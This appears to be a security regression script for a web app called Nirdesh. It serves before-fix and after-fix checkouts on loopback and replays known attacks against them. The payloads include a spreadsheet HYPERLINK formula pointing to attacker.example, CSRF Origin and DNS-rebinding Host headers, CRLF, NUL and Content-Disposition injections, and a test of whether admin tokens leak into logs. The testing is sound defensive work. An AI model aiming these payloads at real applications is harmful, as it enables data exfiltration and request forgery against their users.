#!/usr/bin/env python3
"""Run the web attacks of issue 17 (findings 5, 6, 9, 10, 12) against two checkouts and print a table.

    python scripts/hostile_web.py [--before /work/base] [--after .] [--busy-kb 200]

Each checkout is served as ``nirdesh serve`` does (``api.server.run``: uvicorn, SQLite, the real
extractor, loopback, no auth required) on a free port with a fresh data folder; every attack is an
ordinary HTTP request (http.client, so Host, Origin and raw paths are sent as given). The last row
sends SIGTERM while the server is busy with an upload that takes long to extract, and times the exit.
"""

from __future__ import annotations

import argparse
import contextlib
import http.client
import io
import json
import os
import signal
import socket
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
import uuid
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote

ROOT = Path(__file__).resolve().parents[1]
FORMULA = '=HYPERLINK("http://attacker.example/?x","देखें")'
MINUTES = (
    "विभाग: ग्राम्य विकास विभाग\n"
    f"{FORMULA} जिलाधिकारी ने निर्देश दिए कि तहसीलदार 30 सितंबर 2025 तक सर्वे पूरा करें।\n"
    "अधिशासी अभियंता को 31 अक्टूबर 2025 तक सड़क मरम्मत की रिपोर्ट देने के निर्देश दिए गए।\n"
)
EVIL = "http://attacker.example"


@dataclass
class Server:
    tree: Path
    data: Path
    port: int = 0
    proc: subprocess.Popen[bytes] | None = None
    log_path: Path = field(default_factory=Path)
    env: dict[str, str] = field(default_factory=dict)

    def start(self) -> None:
        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            self.port = int(s.getsockname()[1])
        self.env = {
            **os.environ,
            "PYTHONPATH": str(self.tree),
            "NIRDESH_DATA_DIR": str(self.data),
            "NIRDESH_PORT": str(self.port),
            "NIRDESH_HOST": "127.0.0.1",
            "NIRDESH_EMBEDDER": "none",
            "NIRDESH_JOB_WORKERS": "1",
            "NIRDESH_SHUTDOWN_TIMEOUT": "3",
        }
        for name in ("NIRDESH_REQUIRE_AUTH", "NIRDESH_PUBLIC_URL", "NIRDESH_ALLOWED_HOSTS", "DATABASE_URL"):
            self.env.pop(name, None)
        self.log_path = self.data.parent / "server.log"
        log = self.log_path.open("wb")
        self.proc = subprocess.Popen(
            [sys.executable, "-c", "from api.server import run; run()"],
            cwd=self.tree,
            env=self.env,
            stdout=log,
            stderr=subprocess.STDOUT,
        )
        deadline = time.monotonic() + 90
        while time.monotonic() < deadline:
            try:
                if self.request("GET", "/v1/health")[0] == 200:
                    return
            except OSError:
                pass
            if self.proc.poll() is not None:
                raise RuntimeError(f"server in {self.tree} exited: {self.log_path.read_text()[-2000:]}")
            time.sleep(0.2)
        raise RuntimeError(f"server in {self.tree} did not start")

    def stop(self) -> None:
        if self.proc and self.proc.poll() is None:
            self.proc.kill()
            self.proc.wait()

    def request(
        self, method: str, path: str, body: bytes | None = None, headers: dict[str, str] | None = None
    ) -> tuple[int, dict[str, str], bytes]:
        conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=120)
        try:
            conn.putrequest(method, path, skip_host="Host" in (headers or {}), skip_accept_encoding=True)
            for k, v in {**(headers or {}), "Content-Length": str(len(body or b""))}.items():
                conn.putheader(k, v)
            conn.endheaders(body)
            res = conn.getresponse()
            return res.status, {k.lower(): v for k, v in res.getheaders()}, res.read()
        finally:
            conn.close()

    def json(self, method: str, path: str, payload: object, headers: dict[str, str] | None = None) -> tuple[int, dict]:
        status, _, body = self.request(
            method, path, json.dumps(payload).encode(), {"Content-Type": "application/json", **(headers or {})}
        )
        return status, json.loads(body or b"{}")

    def upload(self, name: str, data: bytes, headers: dict[str, str] | None = None) -> tuple[int, bytes]:
        boundary = uuid.uuid4().hex
        body = (
            (
                f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n'
                "Content-Type: text/plain\r\n\r\n"
            ).encode()
            + data
            + f"\r\n--{boundary}--\r\n".encode()
        )
        ctype = {"Content-Type": f"multipart/form-data; boundary={boundary}"}
        status, _, out = self.request("POST", "/v1/documents", body, {**ctype, **(headers or {})})
        return status, out


def _formula_cells(xlsx: bytes) -> int:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        return sum(z.read(n).count(b"<f>") for n in z.namelist() if n.startswith("xl/worksheets/"))


def _first_item(srv: Server) -> dict:
    status, _, body = srv.request("GET", "/v1/action-items?sort=id&limit=1")
    return json.loads(body)["items"][0]


# --- the attacks: each returns what happened, as a short string ----------------------------------------


def seed(srv: Server) -> str:
    status, _ = srv.upload("minutes.txt", MINUTES.encode())
    return f"upload {status}"


def formula_xlsx(srv: Server) -> str:
    item = _first_item(srv)
    srv.json("PATCH", f"/v1/action-items/{item['id']}", {"assignee": "=1+1"})
    status, _, body = srv.request("GET", "/v1/export?format=xlsx")
    return f"{status}, {_formula_cells(body)} formula cells" if status == 200 else str(status)


def formula_report(srv: Server) -> str:
    item = _first_item(srv)
    srv.json("PATCH", f"/v1/action-items/{item['id']}", {"note": "=SUM(1,1)"})
    status, _, body = srv.request("GET", f"/v1/documents/{item['document_id']}/compliance-report?format=xlsx")
    return f"{status}, {_formula_cells(body)} formula cells" if status == 200 else str(status)


def formula_csv(srv: Server) -> str:
    import csv

    status, _, body = srv.request("GET", "/v1/export?format=csv")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))[1:]
    live = sum(1 for r in rows for f in r if f[:1] in ("=", "+", "-", "@", "\t", "\r"))
    return f"{status}, {live} live fields"


def control_patch(srv: Server) -> str:
    item = _first_item(srv)
    status, _ = srv.json("PATCH", f"/v1/action-items/{item['id']}", {"note": "टिप्पणी\x07"})
    return f"PATCH {status}"


def control_stored(srv: Server) -> str:
    """A note holding U+0007 and NUL as older data may (written straight into the database)."""
    with sqlite3.connect(srv.data / "nirdesh.db") as db:
        db.execute("UPDATE action_items SET note = ? WHERE id = (SELECT min(id) FROM action_items)", ("नोट\x07\x00",))
    item = _first_item(srv)
    out = []
    for path in ("/v1/export?format=xlsx", f"/v1/documents/{item['document_id']}/compliance-report?format=xlsx"):
        out.append(str(srv.request("GET", path)[0]))
    with sqlite3.connect(srv.data / "nirdesh.db") as db:
        db.execute("UPDATE action_items SET note = NULL WHERE id = (SELECT min(id) FROM action_items)")
    return "export " + " / report ".join(out)


def lost_update(srv: Server) -> str:
    item = _first_item(srv)
    url = f"/v1/action-items/{item['id']}"
    _, headers, _ = srv.request("GET", url)
    etag = headers.get("etag") or item.get("etag") or '"none"'
    a, _ = srv.json("PATCH", url, {"note": "संपादक क"}, {"If-Match": etag})
    b, _ = srv.json("PATCH", url, {"note": "संपादक ख"}, {"If-Match": etag})
    kept = _first_item(srv)["note"]
    return f"{a}/{b}, {'first edit lost' if kept != 'संपादक क' else 'first edit kept'}"


def csrf_upload(srv: Server) -> str:
    status, _ = srv.upload("csrf.txt", (MINUTES + "नया।").encode(), {"Origin": EVIL})
    return str(status)


def csrf_reprocess(srv: Server) -> str:
    item = _first_item(srv)
    return str(srv.request("POST", f"/v1/documents/{item['document_id']}/reprocess", b"", {"Origin": EVIL})[0])


def rebinding(srv: Server) -> str:
    return str(srv.request("GET", "/v1/action-items", headers={"Host": f"rebind.attacker.example:{srv.port}"})[0])


def csp(srv: Server) -> str:
    headers = srv.request("GET", "/")[1]
    policy = headers.get("content-security-policy", "")
    return "frame-ancestors 'none'" if "frame-ancestors 'none'" in policy else "none"


def review_types(srv: Server) -> str:
    item = _first_item(srv)
    url = f"/v1/action-items/{item['id']}/review"
    a, _ = srv.json("POST", url, {"decision": "correct", "fields": {"deadline": {"text": ["x"], "date": None}}})
    b, _ = srv.json("POST", url, {"decision": "correct", "fields": {"targets": [{"text": "x", "value": "abc"}]}})
    return f"{a} / {b}"


def huge_id(srv: Server) -> str:
    return str(srv.request("GET", f"/v1/documents/{2**63}/pages/1/image")[0])


def feed_crlf(srv: Server) -> str:
    return str(srv.request("GET", "/v1/feeds/officer/a%0D%0AX-Evil:%201.ics")[0])


def feed_nul(srv: Server) -> str:
    try:
        return str(srv.request("GET", "/v1/feeds/officer/%00.ics")[0])
    except (http.client.HTTPException, OSError) as e:
        return f"dropped ({type(e).__name__})"


def feed_disposition(srv: Server) -> str:
    status, headers, _ = srv.request("GET", "/v1/feeds/officer/" + quote('x"; filename="evil.html') + ".ics")
    value = headers.get("content-disposition", "")
    return f"{status}, {'injected' if value.count(chr(34)) > 2 else 'quoted'}"


def admin_token_in_url(srv: Server) -> str:
    out = subprocess.run(
        [sys.executable, "-m", "nirdesh.cli", "token", "create", "--role", "admin", "--label", "ops"],
        cwd=srv.tree,
        env=srv.env,
        capture_output=True,
        text=True,
        check=True,
    )
    token = out.stdout.strip().splitlines()[-1]
    status = srv.request("GET", f"/v1/feeds/officer/x.ics?token={token}")[0]
    time.sleep(0.3)
    logged = token in srv.log_path.read_text(errors="replace")
    return f"{status}, {'in log' if logged else 'redacted in log'}"


def link_host(srv: Server) -> str:
    status, _, body = srv.request("GET", "/v1/export?format=json", headers={"Host": "attacker.example"})
    if status != 200:
        return f"{status} (host refused)"
    url = json.loads(body)["items"][0]["url"]
    return "attacker.example" if "attacker.example" in url else url.split("/#")[0]


def audit_actor(srv: Server) -> str:
    item = _first_item(srv)
    srv.json("PATCH", f"/v1/action-items/{item['id']}", {"priority": "high"})
    _, _, body = srv.request("GET", f"/v1/action-items/{item['id']}/history")
    return json.loads(body)[-1]["actor"]


def sigterm_busy(srv: Server, busy_kb: int) -> str:
    """SIGTERM one second into an upload that keeps a request thread busy (repeated titles, slow to extract)."""
    text = ("डॉ. " * (busy_kb * 1024 // len("डॉ. ".encode()))).encode()
    threading.Thread(target=lambda: _ignore(lambda: srv.upload("busy.txt", text)), daemon=True).start()
    time.sleep(1.0)
    assert srv.proc is not None
    start = time.monotonic()
    srv.proc.send_signal(signal.SIGTERM)
    try:
        srv.proc.wait(timeout=60)
        return f"exited in {time.monotonic() - start:.1f} s"
    except subprocess.TimeoutExpired:
        return "still running at 60 s (killed)"


def _ignore(fn: Callable[[], object]) -> None:
    with contextlib.suppress(OSError, http.client.HTTPException):
        fn()


ATTACKS: list[tuple[str, str, Callable[[Server], str]]] = [
    ("-", "seed: TXT upload with a formula line", seed),
    ("5", "XLSX export: formula cells (line + PATCH assignee =1+1)", formula_xlsx),
    ("5", "compliance-report XLSX: formula cells (PATCH note)", formula_report),
    ("5", "CSV export: fields starting = + - @ tab CR", formula_csv),
    ("9", "PATCH note with U+0007", control_patch),
    ("9", "stored U+0007/NUL note: XLSX export / report", control_stored),
    ("10", "two PATCHes with the same If-Match", lost_update),
    ("6", "cross-origin upload (Origin: attacker)", csrf_upload),
    ("6", "cross-origin reprocess", csrf_reprocess),
    ("6", "DNS rebinding read (Host: attacker name)", rebinding),
    ("6", "CSP on the UI", csp),
    ("12", "review fields: list as deadline text / text as target value", review_types),
    ("12", "page image, document id 2^63", huge_id),
    ("12", "feed key with CR/LF", feed_crlf),
    ("12", "feed key %00", feed_nul),
    ("12", "feed key Content-Disposition injection", feed_disposition),
    ("12", "admin token in a feed URL", admin_token_in_url),
    ("12", "export link with Host: attacker.example", link_host),
    ("12", "audit actor in the open loopback mode", audit_actor),
]


def run_tree(tree: Path, busy_kb: int) -> list[str]:
    with tempfile.TemporaryDirectory(prefix="hostile-web-") as tmp:
        srv = Server(tree=tree, data=Path(tmp) / "data")
        srv.start()
        results = []
        try:
            for _, _, attack in ATTACKS:
                try:
                    results.append(attack(srv))
                except Exception as e:  # noqa: BLE001 - a measurement reports what broke and goes on
                    results.append(f"error: {type(e).__name__}")
            results.append(sigterm_busy(srv, busy_kb))
        finally:
            srv.stop()
        return results


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--before", type=Path, default=Path("/work/base"), help="checkout before the fixes")
    ap.add_argument("--after", type=Path, default=ROOT, help="checkout after the fixes")
    ap.add_argument("--busy-kb", type=int, default=200, help="size of the slow upload for the SIGTERM row")
    ns = ap.parse_args()
    before = run_tree(ns.before.resolve(), ns.busy_kb)
    after = run_tree(ns.after.resolve(), ns.busy_kb)
    rows = [(f, what) for f, what, _ in ATTACKS] + [("12", f"SIGTERM during a busy {ns.busy_kb} KB upload")]
    width = max(len(w) for _, w in rows)
    print(f"{'#':>3}  {'attack':<{width}}  {'before (' + str(ns.before) + ')':<38}  after ({ns.after})")
    for (finding, what), b, a in zip(rows, before, after, strict=True):
        print(f"{finding:>3}  {what:<{width}}  {b:<38}  {a}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
